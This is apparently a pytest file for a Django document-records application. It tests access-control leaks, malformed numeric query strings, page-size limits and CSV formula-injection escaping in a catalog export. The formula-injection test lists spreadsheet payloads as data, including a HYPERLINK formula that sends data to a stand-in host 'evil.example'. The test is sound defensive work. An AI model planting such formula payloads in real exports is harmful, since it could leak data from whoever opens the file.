"""Rows of docs/security.md's matrix added after the first review of issue 7 (one test per row).

The fixtures are test_security_web.py's (two archive staff, a command-line batch, a reviewer, an admin)."""
from __future__ import annotations

import json

import pytest

from records.models import Report
from tests.test_security_web import client_for, world  # noqa: F401 - the fixture

pytestmark = pytest.mark.django_db


def body(response) -> bytes:
    return response.getvalue()  # pages and streamed exports alike


# ---------------------------------------------------------------- row 24: re-scans of another unit's record
def test_row24_a_record_never_names_the_rescanned_record_of_a_batch_the_person_may_not_see(world):
    """beto scans again a report ana already holds: his record is linked to hers (records/rescans.py), but
    nothing he reads (API record, record list, exports) names her file, page, sha256 or record id."""
    ana_report, beto_report = world["ana_report"], world["beto_report"]
    Report.objects.filter(pk=beto_report.pk).update(rescan_of=ana_report)
    theirs = ana_report.source
    beto_batch = beto_report.page.document.batch_id
    beto, rita = client_for(world["beto"]), client_for(world["rita"])
    answers = {
        "record": body(beto.get(f"/api/records/{beto_report.pk}")),
        "list": body(beto.get("/api/records")),
        "batch export": body(beto.get(f"/api/batches/{beto_batch}/export?format=jsonl")),
        "review export": body(beto.get("/review/export/?format=jsonl")),
    }
    for what, answer in answers.items():
        assert b"beto.pdf" in answer, what  # his own record is there ...
        assert theirs["sha256"].encode() not in answer and b"ana.pdf" not in answer, what  # ... hers is not named
        if what.endswith("export"):
            assert "rescan_of" not in json.loads(answer.splitlines()[0])["review"], what
    assert beto.get(f"/api/records/{beto_report.pk}").json()["rescan_of"] is None
    assert Report.objects.get(pk=beto_report.pk).rescan_of_id == ana_report.pk  # hidden, not unlinked
    # Reviewers see everything, the link included.
    seen = rita.get(f"/api/records/{beto_report.pk}").json()
    assert seen["rescan_of"] == ana_report.pk and seen["record"]["review"]["rescan_of"] == theirs
    assert theirs["sha256"].encode() in body(rita.get("/review/export/?format=jsonl&unidad=71102"))


# ---------------------------------------------------------------- row 25: hostile query strings
HUGE = "9" * 30  # no database integer holds it


@pytest.mark.parametrize("who, url", [
    ("rita", "/review/?batch=%C2%B2"),  # '²' passes str.isdigit(), and int() refuses it
    ("rita", f"/review/?batch={HUGE}"),
    ("rita", f"/review/?year={HUGE}&unidad=1"),
    ("ana", "/review/export/?format=jsonl&batch=%C2%B2"),
    ("ana", f"/review/export/?format=csv&batch={HUGE}"),
    ("ana", "/completeness/?year=%C2%B2"),
    ("ana", f"/completeness/?year={HUGE}"),
    ("ana", f"/api/records?batch={HUGE}"),
    ("rita", "/review/next/?after=%C2%B2"),
    ("rita", f"/review/next/?after={HUGE}"),
])
def test_row25_hostile_numbers_in_query_strings_are_refused_or_ignored_never_a_server_error(world, who, url):
    """The test client re-raises a view's exception: a 500 fails here with its traceback."""
    response = client_for(world[who]).get(url)
    body(response)  # a streamed export runs its query while it is read
    assert response.status_code in (200, 302, 400), response.status_code  # 302: the skip, to the next item
    if url.startswith("/api/"):
        assert response.status_code == 400 and "batch" in response.json()


@pytest.mark.parametrize("pick", ["\u00b2", HUGE])
def test_row25_a_hostile_candidate_number_in_a_decision_is_refused_never_a_server_error(world, pick):
    field = world["ana_report"].fields.first()
    response = client_for(world["rita"]).post(f"/review/field/{field.pk}/", {"pick": pick})
    assert response.status_code == 400 and "no hay candidato" in body(response).decode()
    field.refresh_from_db()
    assert field.status == "needs_review"  # nothing decided


# ---------------------------------------------------------------- row 26: formulas learned into the catalog
@pytest.mark.parametrize("printed", ['=HYPERLINK("http://evil.example/?leak","DIRECCION")', "+1+2 DIRECCION",
                                     "-2+3 DIRECCION", "@SUM(A1) DIRECCION"])
def test_row26_a_spelling_read_from_a_scan_never_becomes_a_formula_in_the_catalog_csv(world, printed):
    """A reviewer keeps the printed spelling as an alias (records.review._learn_alias): the text comes from
    the scan, and the catalog CSV the admin downloads (and edits in a spreadsheet) holds it as a cell."""
    import csv
    import io

    from reconcile.catalog_db import add_alias
    from reconcile.models import CatalogEntry

    entry = CatalogEntry.objects.create(kind="unidad_ejecutora", code="71101", name="DIRECCION DE PRUEBA")
    assert add_alias(entry, printed)  # still learned: the matcher folds punctuation away anyway
    answer = client_for(world["root"]).get("/admin/reconcile/catalogentry/export-csv/")
    assert answer.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(body(answer).decode())) for c in row]
    assert any("DIRECCION" in c for c in cells[cells.index("aliases"):][1:])  # the alias is in the file
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


# ---------------------------------------------------------------- row 27: duplicates of another unit's file
def test_row27_an_upload_answer_never_gives_the_id_of_a_file_held_in_a_batch_the_person_may_not_see(world):
    from django.core.files.uploadedfile import SimpleUploadedFile

    beto_doc = world["beto_report"].page.document
    content = f"beto.pdf:1:2031:1:71102:{beto_doc.batch_id}".encode()  # webdata.make_report's bytes
    assert __import__("hashlib").sha256(content).hexdigest() == beto_doc.sha256

    def upload(who):
        answer = client_for(world[who]).post("/api/batches", {"files": [SimpleUploadedFile("copia.pdf", content)]})
        assert answer.status_code == 201, answer.content
        return answer.json()["documents"][0]

    theirs = upload("ana")
    assert theirs["pages"] == 0 and theirs["duplicate_of"] is None  # held, by someone she may not see
    assert upload("beto")["duplicate_of"] == beto_doc.pk  # his own: the id of his earlier copy


# ---------------------------------------------------------------- row 28: one page of a list is bounded
def test_row28_a_list_page_is_bounded_whatever_limit_is_asked(world, monkeypatch):
    """``?limit=`` is the caller's: without a ceiling one request builds every record of the archive in memory."""
    from folio.api import views

    assert views.Pages.max_limit == 500
    monkeypatch.setattr(views.Pages, "max_limit", 2)  # 3 records and 3 batches in the world: 2 shown
    rita, root = client_for(world["rita"]), client_for(world["root"])
    records = rita.get("/api/records?limit=1000000000").json()
    assert len(records["results"]) == 2 and records["count"] == 3 and records["next"]
    assert len(root.get("/api/batches?limit=1000000000").json()["results"]) == 2
